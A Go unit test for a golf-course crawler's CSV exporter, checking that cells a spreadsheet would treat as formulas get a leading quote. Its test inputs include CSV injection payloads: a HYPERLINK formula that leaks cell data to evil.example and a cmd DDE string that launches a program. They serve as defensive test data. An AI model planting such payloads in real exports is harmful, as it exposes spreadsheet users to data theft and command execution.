package store_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/golfcrawler/golf-crawler/store"
)

// A crawled page chooses the course name: a cell a spreadsheet would read as a formula gets a
// leading quote (OWASP's CSV injection rule), every other cell is written as it is.
func TestLifetimesCSVNeutralisesFormulas(t *testing.T) {
	at := time.Date(2026, 4, 18, 9, 0, 0, 0, time.UTC)
	price := int64(0)
	for _, tc := range []struct{ course, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3 CC`, `'-2+3 CC`},
		{`@SUM(1+1)`, `'@SUM(1+1)`},
		{"\t=1+1 CC", "'\t=1+1 CC"},
		{"\r=1+1 CC", "'\r=1+1 CC"},
		{`레이크&힐스 CC`, `레이크&힐스 CC`},
		{`A=B CC`, `A=B CC`},
		{`'quoted CC`, `'quoted CC`},
	} {
		l := store.Lifetime{ListingKey: "=key|" + tc.course, Source: "@src", CourseName: tc.course, CoursePart: "-east",
			PlayDate: "2026-04-19", TeeTime: "07:00", Status: store.StatusOpen, OpenedAt: at, Duration: time.Hour,
			OpenPriceKRW: &price, LastPriceKRW: &price}
		var buf bytes.Buffer
		if err := store.WriteLifetimesCSV(&buf, []store.Lifetime{l}, time.UTC); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%q: %v, %d records", tc.course, err, len(recs))
		}
		got := map[string]string{}
		for i, h := range store.LifetimeCSVHeader {
			got[h] = recs[1][i]
		}
		if got["course"] != tc.want || got["source"] != "'@src" || got["part"] != "'-east" || got["listing_key"] != "'=key|"+tc.course {
			t.Errorf("%q: course %q source %q part %q key %q; want course %q and every text cell quoted",
				tc.course, got["course"], got["source"], got["part"], got["listing_key"], tc.want)
		}
		if got["open_price_krw"] != "0" || got["lifetime"] != "1h0m0s" || got["opened_at"] != "2026-04-18T09:00:00.000000Z" {
			t.Errorf("%q: numbers and times changed: %q %q %q", tc.course, got["open_price_krw"], got["lifetime"], got["opened_at"])
		}
	}
}
